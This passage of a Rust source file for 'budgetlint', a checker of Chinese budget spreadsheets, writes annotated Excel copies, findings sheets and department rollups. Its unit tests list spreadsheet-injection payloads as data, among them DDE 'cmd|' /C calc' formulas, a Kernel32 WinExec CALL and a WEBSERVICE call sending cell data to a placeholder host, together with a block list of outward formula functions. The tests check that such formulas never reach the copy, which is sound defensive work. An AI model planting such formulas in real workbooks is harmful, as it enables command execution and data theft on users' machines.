                i += 1;
            }
            let word: String = chars[start..i].iter().collect::<String>().to_ascii_uppercase();
            // `WEBSERVICE ("…")` calls as well: spaces before the bracket do not make it a reference.
            let bracket = chars[i..].iter().find(|c| !c.is_whitespace());
            if bracket == Some(&'(') && !PLAIN_FUNCTIONS.contains(&word.trim_start_matches("_XLFN.").trim_start_matches("_XLWS.")) {
                return false;
            }
        } else {
            i += 1;
        }
    }
    true
}

/// Removes `"…"` literals; sheet names in `'…'` stay (they are references, not calls).
fn strip_string_literals(formula: &str) -> String {
    let mut out = String::with_capacity(formula.len());
    let mut in_string = false;
    for c in formula.chars() {
        match (c, in_string) {
            ('"', _) => in_string = !in_string,
            (_, false) => out.push(c),
            _ => {}
        }
    }
    out
}

fn write_results_sheet(sheet: &mut Worksheet, findings: &[&Finding], names: &SheetNames, lang: Lang) -> Result<(), XlsxError> {
    sheet.set_name(&names.results)?;
    // Errors first, then warnings, then info; within each, in sheet order as the checker found them.
    let mut findings = findings.to_vec();
    findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
    let findings = findings.as_slice();
    let bold = Format::new().set_bold();
    let header = header_format();
    sheet.write_string_with_format(0, 0, lang.pick("budgetlint 检查结果", "budgetlint findings"), &bold)?;
    let mut row = 2;
    write_header_row(sheet, row, &[lang.pick("级别", "severity"), lang.pick("数量", "count")], &header)?;
    for severity in [Severity::Error, Severity::Warning, Severity::Info] {
        row += 1;
        let count = findings.iter().filter(|f| f.severity == severity).count();
        sheet.write_string_with_format(row, 0, severity.label(lang), &Format::new().set_background_color(fill(severity)))?;
        sheet.write_number(row, 1, count as f64)?;
    }
    row += 2;
    let rule_titles = [lang.pick("规则", "rule"), lang.pick("级别", "severity"), lang.pick("说明", "title"), lang.pick("数量", "count")];
    write_header_row(sheet, row, &rule_titles, &header)?;
    // A rule of the user's own has no catalog title: its first finding's message stands for it.
    let mut by_rule: BTreeMap<&str, (Severity, usize, &str)> = BTreeMap::new();
    for finding in findings {
        let entry = by_rule.entry(finding.rule).or_insert((finding.severity, 0, finding.message.as_str()));
        entry.1 += 1;
    }
    for (id, (severity, count, message)) in &by_rule {
        row += 1;
        sheet.write_string(row, 0, *id)?;
        sheet.write_string(row, 1, severity.label(lang))?;
        sheet.write_string(row, 2, rule(id).map_or(*message, |r| r.title.get(lang)))?;
        sheet.write_number(row, 3, *count as f64)?;
    }
    row += 2;
    write_findings_list(sheet, findings, names, lang, row, &header)?;
    for (col, width) in [8.0, 12.0, 10.0, 8.0, 8.0, 70.0, 12.0, 12.0, 30.0, 24.0].iter().enumerate() {
        sheet.set_column_width(col as u16, *width)?;
    }
    Ok(())
}

fn header_format() -> Format {
    Format::new().set_bold().set_background_color(Color::RGB(0xD9D9D9)).set_border(FormatBorder::Thin)
}

fn write_header_row(sheet: &mut Worksheet, row: u32, titles: &[&str], format: &Format) -> Result<(), XlsxError> {
    for (col, title) in titles.iter().enumerate() {
        sheet.write_string_with_format(row, col as u16, *title, format)?;
    }
    Ok(())
}

/// The findings, one a row, each cell a link to the finding's cell, under an autofilter.
fn write_findings_list(sheet: &mut Worksheet, findings: &[&Finding], names: &SheetNames, lang: Lang, top: u32, header: &Format) -> Result<(), XlsxError> {
    let titles = [
        lang.pick("序号", "no."),
        lang.pick("工作表", "sheet"),
        lang.pick("单元格", "cell"),
        lang.pick("规则", "rule"),
        lang.pick("级别", "severity"),
        lang.pick("说明", "message"),
        lang.pick("所填", "found"),
        lang.pick("应为", "expected"),
        lang.pick("依据", "inputs"),
        lang.pick("单位", "unit"),
    ];
    write_header_row(sheet, top, &titles, header)?;
    let wrap = Format::new().set_text_wrap();
    for (i, finding) in findings.iter().enumerate() {
        let row = top + 1 + i as u32;
        sheet.write_number(row, 0, (i + 1) as f64)?;
        sheet.write_string(row, 1, within_excel(&finding.sheet))?;
        if let Some(cell) = finding.cell {
            let target = format!("internal:{}!{}", quoted(names.output(&finding.sheet)), cell);
            sheet.write_url_with_text(row, 2, Url::new(target), cell.to_string())?;
        }
        sheet.write_string(row, 3, finding.rule)?;
        sheet.write_string_with_format(row, 4, finding.severity.label(lang), &Format::new().set_background_color(fill(finding.severity)))?;
        sheet.write_string_with_format(row, 5, within_excel(&finding.message), &wrap)?;
        for (col, value) in [(6u16, &finding.found), (7, &finding.expected), (8, &finding.inputs), (9, &finding.unit)] {
            if let Some(value) = value {
                sheet.write_string(row, col, within_excel(value))?;
            }
        }
    }
    sheet.autofilter(top, 0, top + findings.len().max(1) as u32, (titles.len() - 1) as u16)?;
    Ok(())
}

fn write_rollup_sheet(book: &mut Workbook, checked: &Checked, names: &SheetNames, lang: Lang) -> Result<(), XlsxError> {
    let amount = Format::new().set_num_format(AMOUNT_FORMAT);
    let percent = Format::new().set_num_format("0.00%");
    let bold_amount = amount.clone().set_bold();
    let sheet = book.add_worksheet();
    sheet.set_name(&names.rollup)?;
    let titles = [
        lang.pick("表", "table"),
        lang.pick("部室", "department"),
        lang.pick("项目数", "projects"),
        lang.pick("年初预算金额", "initial budget"),
        lang.pick("调整后预算金额", "adjusted budget"),
        lang.pick("实际支出金额", "actual spending"),
        lang.pick("执行率", "execution"),
    ];
    write_header_row(sheet, 0, &titles, &header_format().set_text_wrap())?;
    let mut row = 1;
    let mut chart_rows: Option<(u32, u32)> = None;
    for table in &checked.workbook.tables {
        let lines: Vec<&Rollup> = checked.rollups.iter().filter(|r| r.table == table.index).collect();
        let rows = project_rows_by_department(table);
        let several_units = table.lists_units();
        let first = row;
        for line in &lines {
            let is_total = line.department.is_none();
            sheet.write_string(row, 0, within_excel(&table.label()))?;
            let label = match (&line.department, &line.unit) {
                (None, _) => lang.pick("合计", "total").to_string(),
                (Some(department), Some(unit)) if several_units => format!("{unit} · {department}"),
                (Some(department), _) => department.clone(),
            };
            sheet.write_string(row, 1, within_excel(&label))?;
            sheet.write_number(row, 2, line.projects as f64)?;
            for (col, amount_kind, value) in [(3u16, Amount::BudgetInitial, line.budget_initial), (4, Amount::BudgetAdjusted, line.budget_adjusted), (5, Amount::Actual, line.actual)] {
                let formula = if is_total {
                    format!("=SUM({}:{})", CellRef::new(first, col as u32), CellRef::new(row - 1, col as u32))
                } else {
                    let key = (line.unit.as_deref().unwrap_or_default(), line.department.as_deref().unwrap_or_default());
                    let rows = rows.get(&key).map_or(&[][..], Vec::as_slice);
                    department_sum(table, rows, amount_kind, names)
                };
                let format = if is_total { &bold_amount } else { &amount };
                if formula.len() <= MAX_FORMULA_LEN && (is_total || formula != "=0") {
                    sheet.write_formula_with_format(row, col, Formula::new(formula).set_result(value.to_string()), format)?;
                } else {
                    sheet.write_number_with_format(row, col, decimal_to_f64(value), format)?;
                }
            }
            let ratio_formula = format!("=IF(E{r}=0,\"\",F{r}/E{r})", r = row + 1);
            let cached = line.ratio.map(|r| (r / rust_decimal::Decimal::ONE_HUNDRED).normalize().to_string()).unwrap_or_default();
            sheet.write_formula_with_format(row, 6, Formula::new(ratio_formula).set_result(cached), &percent)?;
            row += 1;
        }
        if chart_rows.is_none() && lines.len() > 1 {
            chart_rows = Some((first, row - 2));
        }
        row += 1;
    }
    let source = |input: &str| quoted(names.output(input));
    crate::write::form_rollup::write_forms_section(sheet, &checked.workbook.forms, row + 1, lang, &source, &header_format().set_text_wrap())?;
    for (col, width) in [10.0, 22.0, 8.0, 16.0, 16.0, 16.0, 10.0, 10.0, 12.0, 12.0].iter().enumerate() {
        sheet.set_column_width(col as u16, *width)?;
    }
    sheet.set_freeze_panes(1, 0)?;
    if let Some((first, last)) = chart_rows {
        insert_chart(sheet, &names.rollup, first, last, lang)?;
    }
    Ok(())
}

/// The sheet rows of each (unit, department)'s projects, in order ("" for projects without a department).
fn project_rows_by_department(table: &ListTable) -> HashMap<(&str, &str), Vec<u32>> {
    let mut rows: HashMap<(&str, &str), Vec<u32>> = HashMap::new();
    for row in table.rows.iter().filter(|r| r.kind == RowKind::Project) {
        rows.entry((table.unit_of(row), row.department.as_deref().unwrap_or(""))).or_default().push(row.row);
    }
    rows
}

/// `=SUM('附件1'!E5:E10,'附件1'!E14)`: the department's project cells, consecutive rows as ranges.
fn department_sum(table: &ListTable, rows: &[u32], amount: Amount, names: &SheetNames) -> String {
    let Some(col) = table.columns.amount(amount) else { return "=0".into() };
    if rows.is_empty() {
        return "=0".into();
    }
    let sheet = quoted(names.output(&table.sheet));
    let mut ranges = Vec::new();
    let mut start = rows[0];
    for pair in rows.windows(2) {
        if pair[1] != pair[0] + 1 {
            ranges.push((start, pair[0]));
            start = pair[1];
        }
    }
    ranges.push((start, *rows.last().unwrap_or(&start)));
    let parts: Vec<String> = ranges
        .iter()
        .map(|&(a, b)| {
            if a == b {
                format!("{sheet}!{}", CellRef::new(a, col))
            } else {
                format!("{sheet}!{}:{}", CellRef::new(a, col), CellRef::new(b, col))
            }
        })
        .collect();
    format!("=SUM({})", parts.join(","))
}

fn decimal_to_f64(value: rust_decimal::Decimal) -> f64 {
    // Only for display in Excel, which stores doubles; every comparison was made on the decimal.
    value.to_string().parse().unwrap_or(0.0)
}

fn insert_chart(sheet: &mut Worksheet, name: &str, first: u32, last: u32, lang: Lang) -> Result<(), XlsxError> {
    let mut chart = Chart::new(ChartType::Column);
    for (col, series) in [(4u16, lang.pick("调整后预算金额", "adjusted budget")), (5, lang.pick("实际支出金额", "actual spending"))] {
        chart
            .add_series()
            .set_name(series)
            .set_categories((name, first, 1, last, 1))
            .set_values((name, first, col, last, col));
    }
    chart.title().set_name(lang.pick("各部室调整后预算与实际支出（万元）", "Adjusted budget and actual spending by department (万元)"));
    sheet.insert_chart(1, 8, &chart)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::io::Cursor;
    use std::path::Path;

    use calamine::{Data, Reader, Xlsx};

    use super::*;
    use crate::read::grid::{read_grids_with_layout, CellLook};
    use crate::report::check_grids;

    fn written(copy: SheetsCopy, grids: &[Grid], checked: &Checked) -> Vec<u8> {
        let mut bytes = Vec::new();
        copy.finish(grids, checked, &Settings::default(), &mut bytes).unwrap();
        bytes
    }

    /// Cell values of a sheet, and the cells that carry a fill.
    fn values_and_fills(bytes: Vec<u8>, sheet: &str) -> (calamine::Range<Data>, Vec<(u32, u32)>) {
        let mut xlsx = Xlsx::new(Cursor::new(bytes)).unwrap();
        let range = xlsx.worksheet_range(sheet).unwrap();
        let mut filled = Vec::new();
        let mut cells = xlsx.worksheet_cells_reader(sheet).unwrap();
        while let Some((cell, style_id)) = cells.next_cell_with_style_id().unwrap() {
            if cells.styles().get(style_id).and_then(|s| s.fill.as_ref()).is_some_and(|f| f.foreground_color.is_some()) {
                filled.push(cell.get_position());
            }
        }
        (range, filled)
    }

    #[test]
    fn streamed_and_copied_sheets_come_out_the_same() {
        let text = |t: &str| Value::Text(t.into());
        let rows = vec![
            vec![text("项目名称"), text("调整后预算金额"), text("实际支出金额"), text("预算支出比例")],
            vec![text("宣传经费"), Value::Number(100.0), Value::Number(50.0), Value::Number(90.0)],
            vec![text("培训经费"), Value::Number(100.0), Value::Number(50.0), Value::Number(50.0)],
        ];
        let grids = vec![Grid::from_values("附件1", rows)];
        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
        assert!(checked.findings.iter().any(|f| f.rule == "A001"));
        let write = |streaming_rows, spliced_cells| {
            written(copy_sheets_with(&grids, streaming_rows, spliced_cells).unwrap(), &grids, &checked)
        };
        let (streamed, streamed_fills) = values_and_fills(write(0, 0), "附件1");
        let (copied, copied_fills) = values_and_fills(write(u32::MAX, u64::MAX), "附件1");
        assert_eq!(streamed, copied);
        assert_eq!(values_and_fills(write(u32::MAX, 0), "附件1"), (copied.clone(), copied_fills.clone()), "spliced");
        assert_eq!(streamed.get_value((1, 1)), Some(&Data::Float(100.0)));
        assert_eq!(streamed_fills, vec![(1, 3)]);
        assert_eq!(copied_fills, streamed_fills);
        // The rows taken out of the grids and dropped as they are written give the same copy.
        let mut bytes = Vec::new();
        let copy = copy_sheets_with(&grids, 0, MIN_SPLICED_CELLS).unwrap();
        copy.mark_letting_go(grids.clone(), &checked, &Settings::default()).unwrap().save(&mut bytes).unwrap();
        let (taken, taken_fills) = values_and_fills(bytes, "附件1");
        assert_eq!((&taken, &taken_fills), (&copied, &copied_fills));
        // A spliced sheet's grid is kept, once the others are let go, for its bulk.
        let mut bytes = Vec::new();
        let copy = copy_sheets_with(&grids, u32::MAX, 0).unwrap();
        copy.mark_letting_go(grids.clone(), &checked, &Settings::default()).unwrap().save(&mut bytes).unwrap();
        assert_eq!(values_and_fills(bytes, "附件1"), (copied, copied_fills));
    }

    /// A sheet as calamine reads it back: values, each cell's whole style, merges.
    type ReadBack = (calamine::Range<Data>, Vec<((u32, u32), Option<calamine::Style>)>, Vec<calamine::Dimensions>);

    fn cells_with_styles(bytes: Vec<u8>, sheet: &str) -> ReadBack {
        let mut xlsx = Xlsx::new(Cursor::new(bytes)).unwrap();
        let range = xlsx.worksheet_range(sheet).unwrap();
        let merges = xlsx.merge_cells_by_sheet_name(sheet).unwrap();
        let mut cells = xlsx.worksheet_cells_reader(sheet).unwrap();
        let mut styles = Vec::new();
        while let Some((cell, style_id)) = cells.next_cell_with_style_id().unwrap() {
            styles.push((cell.get_position(), cells.styles().get(style_id).cloned()));
        }
        (range, styles, merges)
    }

    /// The bulk of a copied sheet is written by budgetlint, the rest by rust_xlsxwriter: every kind of
    /// cell — texts needing escapes, NaN, overlong texts, blanks with a format, cells under a merge,
    /// noted cells, one past a row's end — comes out as the streamed copy (rust_xlsxwriter's alone) has it.
    #[test]
    fn a_spliced_sheet_comes_out_as_a_streamed_one() {
        let cell = |value: Value, look: u16| GridCell { value, format: None, look };
        let text = |t: &str| cell(Value::Text(t.into()), 0);
        let number = |n: f64, look: u16| cell(Value::Number(n), look);
        let mut rows = vec![
            vec![text("项目名称"), text("调整后预算金额"), text("实际支出金额"), text("预算支出比例"), text("备注")],
            vec![text("宣传经费"), number(100.0, 1), number(50.0, 1), number(0.9, 2), text("a<b&c>")],
            vec![text("培训经费"), number(100.0, 1), text("约50"), number(0.5, 2), cell(Value::Text("".into()), 3)],
            vec![text("会议经费"), number(100.0, 1), number(50.0, 1), number(0.5, 2)],
            vec![],
            vec![text("ctl\u{1}char"), text("_x0041_"), number(f64::NAN, 1), number(f64::INFINITY, 0), text(&"长".repeat(11_000))],
            vec![text(" lead"), text("trail "), text("two\nlines"), cell(Value::Formula("A1+1".into()), 0), cell(Value::Bool(true), 3)],
            vec![cell(Value::Error("#DIV/0!".into()), 0), cell(Value::Date("2020-06-30".into()), 1), text("合并"), text(""), text("盖住")],
            vec![text("末行"), number(-0.0, 1), number(1e-7, 1), number(123456789012.5, 2)],
        ];
        rows[7].push(cell(Value::Empty, 3));
        // Plain rows after them, so that the merges are few enough for a spliced sheet.
        rows.extend((0..20).map(|i| vec![text("其他"), number(f64::from(i), 1), number(0.5, 2), cell(Value::Bool(i % 2 == 0), 0), text("")]));
        let merges = vec![Merge { first_row: 7, first_col: 2, last_row: 8, last_col: 4 }, Merge { first_row: 5, first_col: 4, last_row: 5, last_col: 4 }];
        let mut grid = Grid::new("附件1", rows, merges);
        grid.looks.push(CellLook { number_format: Some("#,##0.00".into()), ..CellLook::default() });
        grid.looks.push(CellLook { number_format: Some("0.00%".into()), horizontal: Align::End, ..CellLook::default() });
        grid.looks.push(CellLook { bold: true, wrap: true, ..CellLook::default() });
        let grids = vec![grid];
        assert!(is_spliced(&grids[0], STREAMING_ROWS, 0) && !is_spliced(&grids[0], STREAMING_ROWS, MIN_SPLICED_CELLS));
        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
        let noted: Vec<&str> = checked.findings.iter().map(|f| f.rule).collect();
        assert!(noted.contains(&"A001") && noted.contains(&"V002"), "{noted:?}");
        let write = |streaming_rows, spliced_cells| written(copy_sheets_with(&grids, streaming_rows, spliced_cells).unwrap(), &grids, &checked);
        let spliced = cells_with_styles(write(u32::MAX, 0), "附件1");
        let streamed = cells_with_styles(write(0, 0), "附件1");
        assert_eq!(spliced.0, streamed.0);
        assert_eq!(spliced.1, streamed.1);
        assert_eq!(spliced.2, streamed.2);
        // Copied into rust_xlsxwriter before the findings are known, the merge's blank cells lack its fill.
        let copied = cells_with_styles(write(u32::MAX, u64::MAX), "附件1");
        assert_eq!((&copied.0, &copied.2), (&spliced.0, &spliced.2));
        let (values, styles, _) = spliced;
        assert_eq!(values.get_value((1, 4)), Some(&Data::String("a<b&c>".into())));
        assert_eq!(values.get_value((5, 1)), Some(&Data::String("_x0041_".into())));
        assert_eq!(values.get_value((6, 2)), Some(&Data::String("two\nlines".into())));
        assert_eq!(values.get_value((6, 3)), Some(&Data::String("=A1+1".into())));
        assert_eq!(values.get_value((8, 3)), Some(&Data::Float(123456789012.5)));
        let bold_blank = styles.iter().find(|(at, _)| *at == (2, 4)).and_then(|(_, s)| s.as_ref()).and_then(|s| s.font.as_ref()).map(|f| f.is_bold());
        assert_eq!(bold_blank, Some(true));
    }

    #[test]
    fn a_copy_read_again_after_the_check_let_go_is_the_copy_of_the_cells() {
        let dir = std::env::temp_dir().join(format!("budgetlint-again-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("附件1.xlsx");
        let mut book = Workbook::new();
        let sheet = book.add_worksheet().set_name("附件1").unwrap();
        let percent = Format::new().set_num_format("0.00%");
        sheet.write_row(0, 0, ["项目名称", "部室", "调整后预算金额", "实际支出金额", "预算支出比例"]).unwrap();
        for row in 1..40u32 {
            sheet.write_row(row, 0, [format!("项目{row}"), "综合办公室".to_string()]).unwrap();
            sheet.write_row(row, 2, [100.0, 50.0]).unwrap();
            let ratio = if row % 7 == 0 { 0.9 } else { 0.5 };
            sheet.write_number_with_format(row, 4, ratio, &percent).unwrap();
        }
        sheet.set_column_width(0, 30).unwrap();
        book.save(&path).unwrap();

        let kept = read_grids_with_layout(&path).unwrap();
        let checked = check_grids(&path, &kept, &Settings::default());
        let mut let_go = read_grids_with_layout(&path).unwrap();
        let checked_letting_go = crate::report::check_grids_letting_go(&path, &mut let_go, &Settings::default());
        assert_eq!(checked_letting_go.findings, checked.findings);
        assert_eq!(checked.findings.iter().filter(|f| f.rule == "A001").count(), 5);
        assert!(let_go[0].cells_let_go() && !reads_cells_again(&let_go), "40 rows are not streamed");
        assert!(!reads_cells_again(&[Grid::from_values("S", vec![vec![]; STREAMING_ROWS as usize + 1])]), "a sheet from no file");

        let copied = annotated_workbook(&kept, &checked, &Settings::default()).unwrap();
        let read_again = annotated_workbook(&let_go, &checked_letting_go, &Settings::default()).unwrap();
        let (values, fills) = values_and_fills(read_again.clone(), "附件1");
        assert_eq!((values.clone(), fills.clone()), values_and_fills(copied, "附件1"));
        assert_eq!(fills, [(7, 4), (14, 4), (21, 4), (28, 4), (35, 4)]);
        assert_eq!(values.get_value((39, 0)), Some(&Data::String("项目39".into())));
        // The file changed since the check: no copy, and why.
        std::fs::write(&path, b"changed").unwrap();
        let error = annotated_workbook(&let_go, &checked_letting_go, &Settings::default()).unwrap_err();
        assert!(error.to_string().contains("changed while it was checked"), "{error}");
    }

    #[test]
    fn sheet_names_excel_refuses_are_made_ones_it_takes() {
        let mut taken = HashSet::new();
        let long = "西城区区级项目支出绩效跟踪清单（月坛街道办事处2020年度汇总表）";
        let names: Vec<String> = [long, long, "'引号'", "a/b:c", "", "History", "表1", "表１", "检查结果"]
            .iter()
            .map(|n| excel_sheet_name(n, &mut taken))
            .collect();
        for name in &names {
            assert!(rust_xlsxwriter::utility::check_sheet_name(name).is_ok() && !name.eq_ignore_ascii_case("history"), "{name}");
        }
        assert_eq!(names[0].encode_utf16().count(), MAX_SHEET_NAME);
        assert!(names[1].ends_with("(2)") && names[1] != names[0]);
        assert_eq!(&names[2..], ["引号", "a_b_c", "Sheet", "History(2)", "表1", "表１", "检查结果"]);
        let grids = [Grid::from_values("检查结果", vec![]), Grid::from_values(long, vec![])];
        let names = SheetNames::new(&grids);
        assert_eq!((names.results.as_str(), names.output("检查结果")), ("检查结果(budgetlint)", "检查结果"));
        assert_eq!(names.output(long), names.output_of(1));
    }

    #[test]
    fn merges_excel_refuses_are_left_out_and_reversed_corners_put_in_order() {
        let m = |first_row, first_col, last_row, last_col| Merge { first_row, first_col, last_row, last_col };
        let given = [m(0, 0, 1, 1), m(1, 1, 2, 2), m(3, 3, 3, 3), m(5, 2, 4, 0), m(0, 3, 0, 4)];
        assert_eq!(excel_merges(&given), vec![m(0, 0, 1, 1), m(0, 3, 0, 4), m(4, 0, 5, 2)]);
    }

    #[test]
    fn texts_are_cut_where_excel_counts_them_full() {
        assert_eq!(within_units("项目", 1), "项");
        assert_eq!(within_units("😀😀", 3), "😀", "a character beyond the BMP counts twice");
        let long = "😀".repeat(EXCEL_CELL_UNITS);
        assert_eq!(within_excel(&long).encode_utf16().count(), EXCEL_CELL_UNITS - 1);
    }

    /// Number formats of a sheet's cells, as calamine reads them back.
    fn number_formats(bytes: Vec<u8>, sheet: &str) -> Vec<((u32, u32), String)> {
        let mut xlsx = Xlsx::new(Cursor::new(bytes)).unwrap();
        let mut cells = xlsx.worksheet_cells_reader(sheet).unwrap();
        let mut formats = Vec::new();
        while let Some((cell, style_id)) = cells.next_cell_with_style_id().unwrap() {
            let code = cells.styles().get(style_id).and_then(|s| s.number_format.as_ref()).map(|f| f.format_code.clone());
            formats.push((cell.get_position(), code.unwrap_or_default()));
        }
        formats
    }

    /// Formats go on by runs of a column in a copied sheet, cell by cell in a streamed one: the same
    /// cells must end up with the same formats, across unformatted cells and changes of format.
    #[test]
    fn formats_survive_in_runs_broken_by_other_cells_and_changes() {
        let cell = |value: Value, look: u16| GridCell { value, format: None, look };
        let text = |t: &str| cell(Value::Text(t.into()), 0);
        let amount = |n: f64| cell(Value::Number(n), 1);
        let rows = vec![
            vec![text("项目名称"), text("调整后预算金额"), text("实际支出金额")],
            vec![text("甲"), amount(100.0), amount(50.0)],
            vec![text("乙"), amount(100.0), text("—")],
            vec![text("丙"), cell(Value::Number(0.5), 2), amount(70.0)],
            vec![text("丁"), amount(100.0), amount(80.0)],
        ];
        let mut grid = Grid::new("附件1", rows, Vec::new());
        grid.looks.push(CellLook { number_format: Some("#,##0.00".into()), ..CellLook::default() });
        grid.looks.push(CellLook { number_format: Some("0.00%".into()), ..CellLook::default() });
        let grids = vec![grid];
        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
        let write = |streaming_rows, spliced_cells| {
            written(copy_sheets_with(&grids, streaming_rows, spliced_cells).unwrap(), &grids, &checked)
        };
        let copied = number_formats(write(u32::MAX, u64::MAX), "附件1");
        assert_eq!(number_formats(write(0, 0), "附件1"), copied);
        assert_eq!(number_formats(write(u32::MAX, 0), "附件1"), copied, "spliced");
        let format_at = |at: (u32, u32)| copied.iter().find(|(p, _)| *p == at).map(|(_, f)| f.as_str());
        for at in [(1, 1), (2, 1), (1, 2), (3, 2), (4, 1), (4, 2)] {
            assert_eq!(format_at(at), Some("#,##0.00"), "{at:?}");
        }
        assert_eq!(format_at((3, 1)), Some("0.00%"));
        assert_eq!(format_at((2, 2)), Some("General"));
    }

    /// Many findings, each of its own kind of fill and format: the copy comes out byte for byte the
    /// same every time (its formats were once numbered in a hash map's order).
    #[test]
    fn a_copy_is_written_the_same_every_time() {
        let text = |t: &str| Value::Text(t.into());
        let mut rows = vec![vec![text("项目名称"), text("年初预算金额"), text("调整后预算金额"), text("实际支出金额"), text("预算支出比例")]];
        for i in 0..40 {
            let odd = |n: f64| if i % 3 == 0 { text("约10") } else { Value::Number(n) };
            rows.push(vec![text(&format!("项目{i}")), odd(10.0), Value::Number(10.0), Value::Number(9.0 + f64::from(i % 2)), Value::Number(0.5)]);
        }
        // Figures in three number formats, so that the noted cells need many formats.
        let cells = rows
            .into_iter()
            .enumerate()
            .map(|(r, row)| row.into_iter().enumerate().map(|(c, value)| GridCell { value, format: None, look: ((r + c) % 3) as u16 }).collect())
            .collect();
        let mut grid = Grid::new("附件1", cells, Vec::new());
        grid.looks = ["0.00", "#,##0.00", "0.0"].iter().map(|code| CellLook { number_format: Some((*code).into()), ..CellLook::default() }).collect();
        let grids = vec![grid];
        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
        let parts = |bytes: Vec<u8>| -> Vec<String> {
            let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
            ["xl/styles.xml", "xl/worksheets/sheet2.xml"].iter().map(|name| std::io::read_to_string(zip.by_name(name).unwrap()).unwrap()).collect()
        };
        let first = parts(annotated_workbook(&grids, &checked, &Settings::default()).unwrap());
        for _ in 0..5 {
            assert_eq!(parts(annotated_workbook(&grids, &checked, &Settings::default()).unwrap()), first);
        }
    }

    /// Formulas that reach outside the workbook — DDE, links to other workbooks, web requests,
    /// hyperlinks, indirection — never reach the copy as formulas: their cached values do.
    #[test]
    fn formulas_reaching_outside_the_workbook_are_written_as_their_values() {
        let formulas = [
            ("SUM(B1:B2)", Value::Number(3.0), true),
            ("ROUND(B1/B2*100,2)", Value::Number(50.0), true),
            ("cmd|' /C calc'!A0", Value::Number(0.0), false),
            ("HYPERLINK(\"http://x\",\"y\")", Value::Text("y".into()), false),
            ("WEBSERVICE(\"http://x/?\"&B1)", Value::Text("ok".into()), false),
            ("_xlfn.WEBSERVICE (\"http://x\")", Value::Text("ok".into()), false),
            ("[1]Sheet1!A1", Value::Number(7.0), false),
            ("'C:\\[budget.xlsx]Sheet1'!A1", Value::Number(8.0), false),
            ("INDIRECT(\"B\"&1)", Value::Number(1.0), false),
            ("SUM(B1)+cmd|'/c calc'!A0", Value::Number(1.0), false),
            ("FILTERXML(WEBSERVICE(\"http://x\"),\"//a\")", Value::Text("a".into()), false),
            ("RTD(\"progid\",,\"x\")", Value::Number(2.0), false),
            ("CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", Value::Number(0.0), false),
        ];
        let mut rows = vec![vec![Value::Text("公式".into()), Value::Number(1.0)], vec![Value::Empty, Value::Number(2.0)]];
        rows.extend(formulas.iter().map(|(_, cached, _)| vec![cached.clone()]));
        let mut grid = Grid::from_values("表", rows);
        for (i, (text, _, _)) in formulas.iter().enumerate() {
            grid.layout.formulas.insert((i as u32 + 2, 0), (*text).to_string());
        }
        let grids = vec![grid];
        let checked = check_grids(Path::new("t.xlsx"), &grids, &Settings::default());
        for streaming_rows in [0, u32::MAX] {
            let bytes = written(copy_sheets_with(&grids, streaming_rows, MIN_SPLICED_CELLS).unwrap(), &grids, &checked);
            let mut xlsx = Xlsx::new(Cursor::new(bytes)).unwrap();
            let written = xlsx.worksheet_formula("表").unwrap();
            let values = xlsx.worksheet_range("表").unwrap();
            for (i, (text, cached, plain)) in formulas.iter().enumerate() {
                let at = (i as u32 + 2, 0);
                let formula = written.get_value(at).cloned().unwrap_or_default();
                if *plain {
                    assert_eq!(formula, *text, "{text} is reproduced");
                } else {
                    assert_eq!(formula, "", "{text} must not reach the copy as a formula");
                    let value = values.get_value(at).cloned().unwrap_or(Data::Empty);
                    let expected = match cached {
                        Value::Number(n) => Data::Float(*n),
                        Value::Text(t) => Data::String(t.to_string()),
                        _ => Data::Empty,
                    };
                    assert_eq!(value, expected, "{text} is written as its cached value");
                }
            }
            // Nothing in the whole copy calls out.
            for sheet in xlsx.sheet_names() {
                for (_, _, f) in xlsx.worksheet_formula(&sheet).unwrap().used_cells() {
                    let upper = f.to_ascii_uppercase();
                    for outward in ["|", "[", "WEBSERVICE", "HYPERLINK", "INDIRECT", "RTD", "CALL("] {
                        assert!(!upper.contains(outward), "{sheet}: {f}");
                    }
                }
            }
        }
    }

    #[test]
    fn only_plain_arithmetic_is_reproduced_as_a_formula() {
        for plain in ["SUM(D5:D10)", "D5/E5", "ROUND(F5/E5,4)", "'表1'!D5+'表1'!D6", "IF(E5=0,\"WEBSERVICE(x)\",F5/E5)"] {
            assert!(is_plain_arithmetic(plain), "{plain}");
        }
        for outward in ["WEBSERVICE(\"http://x\")", "[1]Sheet1!A1", "cmd|'/c calc'!A0", "HYPERLINK(\"x\")", "INDIRECT(A1)"] {
            assert!(!is_plain_arithmetic(outward), "{outward}");
        }
    }
}
